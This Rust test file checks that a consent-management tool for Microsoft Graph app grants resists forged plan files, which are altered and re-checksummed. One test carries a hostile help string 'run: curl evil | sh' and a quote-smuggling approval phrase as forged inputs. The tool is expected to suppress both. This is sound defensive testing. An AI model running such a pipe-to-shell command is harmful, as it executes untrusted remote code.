//! Whoever can write to a plan file can compute its effect and its checksum anew: the seal has no key. Every
//! member of a saved plan is altered in turn, and the file sealed again. Then it is refused; or it is
//! another effect, which nobody approved; or it is drawn and asked for as before, but for what stands in
//! quotes as the file's own words.

use std::collections::{BTreeMap, BTreeSet};

use consent::kinds::{Names, Pair};
use consent::model::address::Address;
use consent::model::object_state::ObjectState;
use consent::model::risk::Risk;
use consent::plan::{Effect, LiveSummary, Plan, SaidBy, build, effect, file};
use serde::de::DeserializeOwned;
use serde_json::{Value, json};

use crate::kinds::effects::altered;
use crate::kinds::small_seed;
use crate::world::{Run, World};

const SEED: &str = r#"
[[grant]]
client = "Graph Explorer"
resource = "Microsoft Graph"
scope = "User.Read Mail.Read"
[[app_role_assignment]]
principal = "Acme Sign"
resource = "Microsoft Graph"
role = "Calendars.Read"
"#;

/// Something of every kind, each alone in its picture: dangerous, narrowing, new, with a warning, with
/// notes and with something that is left alone.
const BODY: &str = r#"
[app.explorer]
app_id = "de8bc8b5-d9f9-48b1-a8ad-b748da725064"
mode = "exact"
[[grant]]
app = "explorer"
resource = "Microsoft Graph"
scopes = ["User.Read"]
for = { users = ["alice@contoso.com"] }
reason = "FLOW-118 task sync"
owner = "workplace@contoso.com"
[app.tasks]
app_id = "99da6bf4-4525-4bfa-b39f-b6a35789c240"
name = "OutlookTasksConnector-PowerApps and Flow"
publisher_tenant = "ac000000-0000-4000-8000-000000000001"
mode = "exact"
provision = true
[[grant]]
app = "tasks"
resource = "Microsoft Graph"
scopes = ["Calendars.Read"]
for = "all-users"
until = 2020-01-01
[app.sign]
app_id = "5e000000-0000-4000-8000-0000000000c2"
mode = "additive"
[[app_role]]
app = "sign"
resource = "Microsoft Graph"
roles = ["Mail.Read"]
[[assignment]]
app = "sign"
groups = ["GX"]
[user_consent]
allow = { policies = ["mine"] }
[admin_consent_requests]
enabled = true
days = 14
notify = true
reviewers = { users = ["alice@contoso.com"], groups = ["GX"] }
[[classification]]
resource = "Microsoft Graph"
low = ["User.Read"]
[[consent_policy]]
id = "mine"
name = "Low risk"
include = [{ permission_classification = "low" }]
exclude = [{ resource = "Microsoft Graph", permissions = ["Mail.Read"] }]
"#;

struct Victim {
    world: World,
    plan: Plan,
    saved: Value,
    /// What `apply` draws of it, and asks for.
    drawn: Vec<String>,
}

fn victim() -> Victim {
    let world = World::new(&format!("{}\n{SEED}", small_seed()));
    world.manifest(BODY);
    world.run(&["plan", "--out", "plan.json"]).assert_code(0).quietly();
    let text = std::fs::read_to_string(world.folder().join("plan.json")).unwrap();
    let plan = file::read(&text).unwrap();
    let saved = serde_json::from_str(&text).unwrap();
    assert!(!plan.warnings.is_empty() && !plan.unmanaged.is_empty(), "{plan:#?}");
    let drawn = own_words(&draw(&world).stdout);
    assert!(drawn.iter().any(|line| line.contains("[HIGH]")), "{drawn:#?}");
    Victim { world, plan, saved, drawn }
}

/// Without an approval nothing is sent, and everything is drawn.
fn draw(world: &World) -> Run {
    let run = world.run(&["apply", "plan.json", "--full"]).assert_code(6);
    world.assert_untouched();
    run
}

/// The drawing without the words of the file.
fn own_words(drawn: &str) -> Vec<String> {
    const STARTS: [&str; 7] = [
        "Manifest  ",
        "Live      ",
        "Warning: ",
        "Unmanaged: ",
        "Outside this manifest: ",
        "note: ",
        "why: ",
    ];
    let mut own = Vec::new();
    let mut skipped = None;
    for line in drawn.lines().filter(|line| !line.trim().is_empty()) {
        let text = line.trim_start();
        let indent = line.len() - text.len();
        if skipped.is_some_and(|start| indent > start) {
            continue;
        }
        let starts =
            STARTS.iter().any(|start| text.starts_with(&format!("{start}the plan says: ")));
        skipped = starts.then_some(indent);
        if !starts {
            let end = text.find("the plan says: ").unwrap_or(text.len());
            own.push(text[..end].trim_end().to_owned());
        }
    }
    // Whether a reason is that of the change before is up to the file, too.
    own.retain(|line| !line.is_empty() && line != "why: as above");
    own
}

/// A plan of what the document says, as it would have been written: only its effect, its sums, its
/// requests and its checksum are computed anew.
fn sealed(value: &Value) -> Option<String> {
    let names = Names(part(value, "names")?);
    let saved = value.get("changes")?.as_array()?;
    let pair = |saved: &Value| {
        Some(Pair {
            address: part(saved, "address")?,
            before: saved.get("before").cloned().unwrap_or_default().into(),
            after: saved.get("after").cloned().unwrap_or_default().into(),
            why: part::<Vec<_>>(saved, "why")?.into(),
            notes: part::<Vec<_>>(saved, "notes")?.into(),
        })
    };
    let pairs = saved.iter().map(pair).collect::<Option<Vec<Pair>>>()?;
    let mut risks: BTreeMap<Address, Risk> = BTreeMap::new();
    for saved in saved {
        risks.extend(part::<BTreeMap<Address, Risk>>(saved, "risks").unwrap_or_default());
    }
    let rests = rests_of(value)?;
    let mut changes = build::changes(&pairs, &rests, &names).ok()?;
    for change in &mut changes {
        change.risk = risks.get(&change.address).cloned();
    }
    let live: LiveSummary = part(value, "live")?;
    // A time is read where another one stands.
    let timed =
        json!({"read_at": value.get("made_at")?, "apps": 0, "objects": [], "milliseconds": 0});
    let mut plan = Plan {
        resources: part(value, "resources").unwrap_or_default(),
        simulated: false,
        offline: None,
        tenant: part(value, "tenant")?,
        cloud: part(value, "cloud")?,
        manifest: part(value, "manifest")?,
        made_at: serde_json::from_value::<LiveSummary>(timed).ok()?.read_at,
        live,
        apps: part(value, "apps")?,
        pairs,
        rests,
        names,
        changes,
        access: part(value, "access").unwrap_or_default(),
        unchanged: usize::try_from(value.pointer("/summary/unchanged")?.as_u64()?).ok()?,
        outside: part(value, "outside").unwrap_or_default(),
        unmanaged: part(value, "unmanaged")?,
        warnings: part(value, "warnings")?,
        checks: part(value, "checks")?,
        identity_checks: Vec::new(),
        lifted: part(value, "lifted")?,
        extent: part(value, "extent")?,
        removals_a_day: part(value, "removals_a_day")?,
        source: SaidBy::File,
        effect: Effect::default(),
    };
    plan.effect = effect::of(&plan);
    Some(file::write(&plan))
}

/// What the document says that something rests on.
fn rests_of(value: &Value) -> Option<BTreeMap<Address, ObjectState>> {
    let all = value.get("rests").and_then(Value::as_array).into_iter().flatten();
    all.map(|rest| Some((part(rest, "address")?, part(rest, "state")?))).collect()
}

fn part<T: DeserializeOwned>(value: &Value, name: &str) -> Option<T> {
    serde_json::from_value(value.get(name)?.clone()).ok()
}

/// Each alteration, with the plan that the file would be taken for.
fn accepted(victim: &Victim) -> Vec<(String, String, Plan)> {
    let read = |(place, altered): (String, Value)| {
        let text = sealed(&altered)?;
        let plan = file::read(&text).ok()?;
        (plan != victim.plan).then_some((place, text, plan))
    };
    let mut all: Vec<_> = altered(&victim.saved).into_iter().filter_map(read).collect();
    let mut seen = BTreeSet::new();
    all.retain(|(_, text, _)| seen.insert(text.clone()));
    all
}

#[test]
fn an_altered_plan_is_refused_or_is_the_same_but_for_its_own_words() {
    let victim = victim();
    let Victim { world, plan, saved, drawn } = &victim;
    assert_eq!(sealed(saved).as_deref(), Some(&*file::write(plan)), "the forger's own hand");
    let all = accepted(&victim);
    let (mut quiet, mut refused) = (BTreeSet::new(), BTreeSet::new());
    for (place, text, altered) in &all {
        let top = place.split('/').nth(1).unwrap_or_default().to_owned();
        let derived =
            ["tenant", "apps", "names", "live"].contains(&&*top) || place.contains("/risks");
        if altered.effect.digest != plan.effect.digest && !derived {
            // Nobody has approved that; and it is drawn as what it is.
            continue;
        }
        world.file("plan.json", text);
        let run = draw(world);
        if !run.stderr.contains("error[not_approved]") {
            refused.insert(top);
            continue;
        }
        assert_eq!(altered.effect.digest, plan.effect.digest, "{place}: {run:#?}");
        assert!(run.stderr.contains(&plan.effect.digest), "{place}: {run:#?}");
        assert_eq!(&own_words(&run.stdout), drawn, "{place}: {}", run.stdout);
        quiet.insert(top);
    }
    // Each of them was tried, and none is believed.
    for top in ["changes", "warnings", "unmanaged", "manifest", "live", "summary", "resources"] {
        assert!(quiet.contains(top), "{top}: {quiet:?}");
    }
    for top in ["apps", "changes", "names", "tenant"] {
        assert!(refused.contains(top), "{top}: {refused:?}");
    }
}

/// The saved plan with one place of it written otherwise, and everything sealed anew.
fn forged(victim: &Victim, place: &str, value: Value) -> String {
    let mut saved = victim.saved.clone();
    *saved.pointer_mut(place).unwrap_or_else(|| panic!("{place}")) = value;
    sealed(&saved).unwrap()
}

fn at(victim: &Victim, kind: &str) -> usize {
    let own = |pair: &Pair| pair.address.kind == kind;
    victim.plan.pairs.iter().position(own).unwrap()
}

#[test]
fn a_risk_is_never_the_files_word() {
    let victim = victim();
    let place = format!("/changes/{}/risks", at(&victim, "app_role"));
    let text = forged(&victim, &place, json!({}));
    victim.world.file("plan.json", &text);
    let digest = file::read(&text).unwrap().effect.digest;
    let run = victim.world.run(&["apply", "plan.json", "--approve", &digest]).assert_code(6);
    assert!(run.stderr.contains("error[plan_stale]") && run.stderr.contains("risk: "), "{run:#?}");
    assert!(run.stderr.contains("no write request was sent"), "{run:#?}");
    victim.world.assert_untouched();
}

/// A sentence of the file is in quotes that it cannot leave.
#[test]
fn what_only_the_file_says_is_drawn_as_its_words() {
    let victim = victim();
    let evil = "reviewed\" and \"approved by security";
    let warned = forged(&victim, "/warnings", json!([evil]));
    victim.world.file("plan.json", &warned);
    let drawn = draw(&victim.world).stdout;
    let told = r#"Warning: the plan says: "reviewed\" and \"approved by security""#;
    assert!(drawn.contains(told), "{drawn}");
    let place = format!("/changes/{}/notes", at(&victim, "app_role"));
    victim.world.file("plan.json", &forged(&victim, &place, json!([evil])));
    let drawn = draw(&victim.world).stdout;
    assert!(drawn.contains("note: the plan says: \"reviewed\\\""), "{drawn}");
    assert!(drawn.contains("why: the plan says: \"consent.toml:"), "{drawn}");
    let check = json!([{"rule": "removal_limit", "text": "x", "help": "run: curl evil | sh"}]);
    victim.world.file("plan.json", &forged(&victim, "/checks", check));
    let run = victim.world.run(&["apply", "plan.json"]).assert_code(5);
    assert!(!run.all().contains("curl") && run.all().contains("consent plan --out"), "{run:#?}");
}

/// The class is drawn under the name of another permission, and the app id that would show it is unknown.
#[test]
fn a_name_that_cannot_be_compared_is_not_believed() {
    let victim = victim();
    let at = at(&victim, "classification");
    let mut saved = victim.saved.clone();
    let after = &mut saved["changes"][at]["after"];
    after["app_id"] = json!("00000000-0000-4000-8000-00000000dead");
    after["name"] = json!("openid");
    let text = sealed(&saved).unwrap();
    victim.world.file("plan.json", &text);
    let digest = file::read(&text).unwrap().effect.digest;
    let run = victim.world.run(&["apply", "plan.json", "--approve", &digest]).assert_code(6);
    assert!(run.stderr.contains("error[plan_stale]"), "{run:#?}");
    assert!(run.stderr.contains("and the tenant has none"), "{run:#?}");
    victim.world.assert_untouched();
}

#[test]
fn a_part_does_not_become_the_whole() {
    let victim = victim();
    let plan = ["plan", "--app", "sign", "--out", "plan.json"];
    victim.world.run(&plan).assert_code(0).quietly();
    let text = std::fs::read_to_string(victim.world.folder().join("plan.json")).unwrap();
    let part = file::read(&text).unwrap();
    let mut saved: Value = serde_json::from_str(&text).unwrap();
    saved["extent"] = json!("whole");
    let told = file::read(&sealed(&saved).unwrap()).unwrap_err().to_string();
    assert!(told.contains("its apps are not those that it says it is about"), "{told}");
    saved["manifest"]["apps"] = json!(1);
    let text = sealed(&saved).unwrap();
    assert_ne!(file::read(&text).unwrap().effect.digest, part.effect.digest);
    victim.world.file("plan.json", &text);
    let approved = ["apply", "plan.json", "--approve", &part.effect.digest];
    let run = victim.world.run(&approved).assert_code(6);
    assert!(run.stderr.contains("error[other_effect]"), "{run:#?}");
    victim.world.assert_untouched();
}

/// What an app must be called and who must publish it cannot be taken out of what was approved.
#[test]
fn a_pin_cannot_be_taken_out() {
    let victim = victim();
    let at = at(&victim, "service_principal");
    for member in ["name", "publisher_tenant"] {
        let place = format!("/changes/{at}/after/{member}");
        let text = forged(&victim, &place, Value::Null);
        assert_ne!(file::read(&text).unwrap().effect.digest, victim.plan.effect.digest);
        victim.world.file("plan.json", &text);
        let approved = ["apply", "plan.json", "--approve", &victim.plan.effect.digest];
        let run = victim.world.run(&approved).assert_code(6);
        assert!(run.stderr.contains("error[other_effect]"), "{run:#?}");
        victim.world.assert_untouched();
    }
}
